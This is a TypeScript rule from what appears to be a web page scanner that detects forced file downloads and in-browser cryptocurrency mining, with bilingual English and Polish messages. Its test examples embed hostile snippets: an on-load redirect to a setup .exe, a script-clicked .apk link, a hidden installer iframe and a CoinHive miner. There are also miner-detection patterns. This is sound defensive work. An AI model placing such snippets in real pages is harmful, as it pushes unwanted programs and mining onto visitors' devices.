import { type CodePiece, codePieces } from '../../facts/code/code-pieces.ts';
import { valuesOf } from '../../facts/code/code-values.ts';
import { occasionsOf } from '../../facts/code/flow.ts';
import { scripts } from '../../facts/code/scripts.ts';
import { metaRefreshes } from '../../facts/meta-refresh.ts';
import { navigations } from '../../facts/navigations.ts';
import { phraseList } from '../../facts/phrase-lists.ts';
import { isAnywhere, isAutomatic } from '../../grounds/script-redirects.ts';
import { elementsNamed } from '../../page/elements-named.ts';
import type { Page } from '../../page/page.ts';
import { pageAddress } from '../../page/page-address.ts';
import { BICYCLE, BREAD, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
import type { ScriptAct } from '../../script/structure.ts';
import { examplePage, paragraphs } from '../example.ts';
import { type Quote, quoteWhole } from '../quote.ts';
import { quoteAct, quoteCode } from '../quote-script.ts';
import { CLEAR, rule } from '../rule.ts';
import { sentences } from '../sentences.ts';
import { findingOf, type Sign } from '../signs.ts';

const PROGRAM = /\.(?:exe|msi|apk|dmg|scr|bat|cmd|jar|pkg|vbs|ps1|hta|iso|appx|xapk)(?:[?#]|$)/i;
const ARCHIVE = /\.(?:zip|rar|7z|tgz|tar\.gz)(?:[?#]|$)/i;
/** Code of miners, by the names that their makers gave them. */
const MINER =
  /new\s+CoinHive\.|CoinHive\.(?:Anonymous|User|Token)|\bCRLT\.|new\s+CryptoLoot|deepMiner\.|new\s+(?:Client|CoinImp)\.Anonymous|stratum\+tcp|cryptonight|\bminer\.start\(|startMining\(/i;
/** Some part of each of these names, to pass over scripts quickly. */
const MINER_WORDS = [
  'CoinHive',
  'CRLT',
  'ryptoLoot',
  'deepMiner',
  '.Anonymous',
  'stratum',
  'ryptonight',
  'ryptoNight',
  'iner.start',
  'startMining',
];
const POOL = /wss?:\/\/[^'"\s]{0,80}(?:pool|xmr|monero|mine[rs]?|hash)/i;
/** getElementById("x") or querySelector(".x"), the last one before a place. */
const LOOKS_UP =
  /(?:getElementById|\$)\(\s*['"]#?([\w-]{1,60})['"]\s*\)[^;]{0,20}$|querySelector\(\s*['"]([#.\w[\]-]{1,60})['"]\s*\)[^;]{0,20}$/;
/** Clicks on links that scripts make; a page has a handful. */
const MAX_CLICKS = 100;

/** The visitor has asked for the file on the page before. */
const announcements = phraseList({
  en: [
    'your download will',
    'your download should',
    'your download is',
    'download will start',
    'download will begin',
    'download should start',
    'download should begin',
    'download starts automatically',
    "download doesn't start",
    "download didn't start",
    'download does not start',
    'download did not start',
    'download has started',
    'thank you for downloading',
    'thanks for downloading',
  ],
  pl: [
    'pobieranie rozpocznie się',
    'pobieranie powinno',
    'pobieranie rozpoczęło się',
    'jeśli pobieranie',
    'jeżeli pobieranie',
    'plik zostanie pobrany',
    'dziękujemy za pobranie',
  ],
});

const say = sentences({
  file_fetched: {
    en: ({ file }: { file: string }) => `The file “${file}” is fetched without a click.`,
    pl: ({ file }) => `Plik „${file}” jest pobierany bez kliknięcia.`,
  },
  script_clicks: {
    en: () => 'A script clicks a download link by itself.',
    pl: () => 'Skrypt sam klika link do pobrania pliku.',
  },
  script_clicks_file: {
    en: ({ file }: { file: string }) => `A script clicks a download link by itself (${file}).`,
    pl: ({ file }) => `Skrypt sam klika link do pobrania pliku (${file}).`,
  },
  mines: {
    en: () => 'The page runs code that mines cryptocurrency on the visitor’s device.',
    pl: () => 'Strona uruchamia kod, który wydobywa kryptowalutę na urządzeniu odwiedzającego.',
  },
});

export default rule({
  id: 'sp_forced_download',
  mode: 'spam',
  policy: 'malicious_practices',
  kind: 'violation',
  layer: 'scripts',
  version: 3,
  title: {
    en: 'The page downloads files or mines cryptocurrency unasked',
    pl: 'Strona bez pytania pobiera pliki lub wydobywa kryptowaluty',
  },
  fix: {
    en: 'Start downloads only when the visitor clicks, and remove mining scripts.',
    pl: 'Rozpoczynaj pobieranie dopiero po kliknięciu i usuń skrypty wydobywające kryptowaluty.',
  },
  question: 'Does a script download files or mine cryptocurrency without the visitor’s consent?',
  sources: ['SP', 'SE', 'YX'],
  answeredBy: 'code',
  shownBy: 'passages',
  mendedBy: 'code',
  accuses: 'strong_or_beside',
  languages: 'any',
  basis: 'measured',
  scoring:
    'A program file fetched at load by the location, a frame, a refresh or a link clicked by script: 0.9, an archive or another file: 0.7; 0.3 where the page says that a requested download begins. Code or hosts of a miner: 0.95; a worker with WebAssembly and a pool: 0.8.',
  says: say,
  detect(page) {
    const signs = [...downloadSigns(page), ...minerSigns(page)];
    return findingOf(signs) ?? CLEAR;
  },
  examples: () => ({
    hit: [
      examplePage('a program at load', {
        found: { says: ['file_fetched'], quotes: ['window.location.href ='] },
        title: 'How to bake rye bread',
        body: `${paragraphs(...BREAD)}<script>window.onload = function () { window.location.href = 'https://files-fast.net/setup_player.exe'; };</script>`,
      }),
      examplePage('a link that a script clicks', {
        found: { says: ['script_clicks_file'], quotes: ['a.click()'] },
        title: 'Chleb żytni',
        lang: 'pl',
        body: `${paragraphs(...CHLEB)}<script>
          setTimeout(function () {
            var a = document.createElement('a');
            a.href = '/pliki/aktualizacja.apk'; a.download = 'aktualizacja.apk';
            document.body.appendChild(a); a.click();
          }, 800);</script>`,
      }),
      examplePage('a frame that holds an installer', {
        found: { says: ['file_fetched'], quotes: ['https://cdn-update.net/flash/installer.msi'] },
        title: 'Skipping chains',
        body: `${paragraphs(...BICYCLE)}<iframe src="https://cdn-update.net/flash/installer.msi" style="display:none"></iframe>`,
      }),
      examplePage('a miner', {
        found: { says: ['mines'], quotes: ['https://coinhive.com/lib/coinhive.min.js', 'new CoinHive.'] },
        title: 'Library stays open',
        body: `${paragraphs(...LIBRARY)}<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner = new CoinHive.Anonymous('key'); miner.start();</script>`,
      }),
    ],
    clear: [
      examplePage('the site of a miner’s maker', {
        title: 'Mining in the browser',
        url: 'https://coinhive.com/',
        body: `${paragraphs(...LIBRARY)}<script src="/static/js/vendor.js"></script>`,
      }),
      examplePage('a download behind a button', {
        title: 'Skipping chains',
        body: `${paragraphs(...BICYCLE)}<button id="get">Download the gauge app</button><script>
          document.getElementById('get').addEventListener('click', function () { location.href = '/files/gauge.exe'; });
          function save(text) { var a = document.createElement('a'); a.download = 'list.csv'; a.href = URL.createObjectURL(new Blob([text])); a.click(); }</script>
          <button onclick="save('x')">Save the list</button>`,
      }),
      examplePage('the page that follows a download button', {
        title: 'Thank you for downloading Gauge',
        body: `<p>Your download will start in a few seconds. If it does not, use the <a href="/files/gauge.exe">direct link</a>.</p><script>setTimeout(function () { location.href = '/files/gauge.exe'; }, 2000);</script>`,
      }),
      examplePage('a game in WebAssembly', {
        title: 'Gra w łańcuch',
        lang: 'pl',
        body: `${paragraphs(...CHLEB)}<script>
          WebAssembly.instantiateStreaming(fetch('/gra.wasm')).then(function (m) { m.instance.exports.start(); });
          var w = new Worker('/dzwiek.js');</script>`,
      }),
    ],
  }),
});

function downloadSigns(page: Page): Sign[] {
  const requested = announcements(page).length > 0;
  const signs: Sign[] = [];
  const add = (file: string, quote: Quote | undefined): void => {
    const program = PROGRAM.test(file);
    if (!program && !ARCHIVE.test(file)) return;
    const name = (file.split(/[?#]/)[0] ?? '').split('/').at(-1) ?? '';
    signs.push({
      score: requested ? 0.3 : program ? 0.9 : 0.7,
      says: say.file_fetched({ file: name }),
      quote,
    });
  };
  for (const navigation of navigations(page)) {
    if (!navigation.targets.some((value) => isFile(value.text))) continue;
    if (!navigation.occasions.some((one) => isAutomatic(one) || isAnywhere(one))) continue;
    for (const value of navigation.targets)
      if (isFile(value.text)) add(value.text, quoteAct(page, navigation.piece, navigation.act));
  }
  for (const refresh of metaRefreshes(page)) {
    if (refresh.noscript || refresh.element < 0) continue;
    add(refresh.url, quoteWhole(page, { in: 'attribute', element: refresh.element, name: 'content' }));
  }
  for (const element of elementsNamed(page, 'iframe')) {
    const src = page.dom.elements[element]?.attribs.src ?? '';
    add(src, quoteWhole(page, { in: 'attribute', element, name: 'src' }));
  }
  for (const piece of codePieces(page)) {
    for (const act of piece.structure.writes) {
      if (act.name !== 'src' || act.value === undefined || !isFile(act.value)) continue;
      if (occasionsOf(page, piece, act).some(isAutomatic)) add(act.value, quoteAct(page, piece, act));
    }
  }
  signs.push(...clickSigns(page, requested));
  return signs;
}

function isFile(address: string): boolean {
  return PROGRAM.test(address) || ARCHIVE.test(address);
}

/** A link with "download" that the script makes and clicks by itself. */
function clickSigns(page: Page, requested: boolean): Sign[] {
  const signs: Sign[] = [];
  let looked = 0;
  for (const piece of codePieces(page)) {
    for (const act of piece.structure.calls) {
      if (act.name !== 'click') continue;
      const made = isSameLink(piece, act);
      const present = made ? undefined : linkOf(page, piece, act);
      if (!made && present === undefined) continue;
      if (looked++ > MAX_CLICKS) return signs;
      if (!occasionsOf(page, piece, act).some((one) => isAutomatic(one) || isAnywhere(one))) continue;
      const file = present ?? fileOf(page, piece, act);
      signs.push({
        score: requested ? 0.3 : file === '' || PROGRAM.test(file) ? 0.9 : 0.7,
        says:
          file === '' ? say.script_clicks() : say.script_clicks_file({ file: file.split('/').at(-1) ?? '' }),
        quote: quoteAct(page, piece, act),
      });
    }
  }
  return signs;
}

/** "a.download = …" or a.setAttribute("download", …) for the same name, in the same function. */
function isSameLink(piece: CodePiece, act: ScriptAct): boolean {
  const owner = act.path.slice(0, -'.click'.length);
  return (
    piece.structure.writes.some(
      (write) => write.within === act.within && write.path === `${owner}.download`,
    ) ||
    piece.structure.calls.some(
      (call) =>
        call.within === act.within && call.path === `${owner}.setAttribute` && call.value === 'download',
    )
  );
}

/** The file behind a link of the page that the script looks up by id or class, where it is a download. */
function linkOf(page: Page, piece: CodePiece, act: ScriptAct): string | undefined {
  const { code, start } = piece.tokens;
  const owner = act.path.slice(0, -'.click'.length);
  const place = owner === '' ? undefined : piece.shape.given.get(owner)?.[0];
  const before =
    place === undefined
      ? code.slice(Math.max(0, act.start - 120), act.start)
      : (code.slice(start[place] ?? 0, (start[place] ?? 0) + 120).split(/[;\n]/)[0] ?? '');
  const match = LOOKS_UP.exec(before);
  const name = match?.[1] ?? match?.[2];
  if (name === undefined) return undefined;
  const bare = name.replace(/^[#.]|^a[#.]/, '');
  for (const element of elementsNamed(page, 'a')) {
    const { id, class: classes, href = '', download } = page.dom.elements[element]?.attribs ?? {};
    const named = id === bare || (classes ?? '').split(/\s+/).includes(bare) || name === 'a[download]';
    if (named && (download !== undefined || isFile(href))) return href;
  }
  return undefined;
}

function fileOf(page: Page, piece: CodePiece, act: ScriptAct): string {
  const owner = act.path.slice(0, -'.click'.length);
  const href = piece.structure.writes.find(
    (write) => write.within === act.within && write.path === `${owner}.href`,
  );
  return href ? (valuesOf(page, piece, href.after + 1)[0]?.text ?? '') : '';
}

function minerSigns(page: Page): Sign[] {
  const signs: Sign[] = [];
  const says = say.mines();
  // The maker of a miner has it on the pages that speak of it.
  for (const script of scripts(page).external)
    if (script.miner && script.site !== pageAddress(page).site)
      signs.push({
        score: 0.95,
        says,
        quote: quoteWhole(page, { in: 'attribute', element: script.element, name: 'src' }),
      });
  for (const piece of codePieces(page)) {
    const { code } = piece.tokens;
    const match = MINER_WORDS.some((word) => code.includes(word)) ? MINER.exec(code) : null;
    const pool = /\bWorker\b/.test(code) && code.includes('WebAssembly') ? POOL.exec(code) : null;
    const found = match ?? pool;
    if (!found) continue;
    signs.push({
      score: match ? 0.95 : 0.8,
      says,
      quote: piece.outer ? undefined : quoteCode(page, piece, found.index, found.index + found[0].length),
    });
  }
  return signs;
}
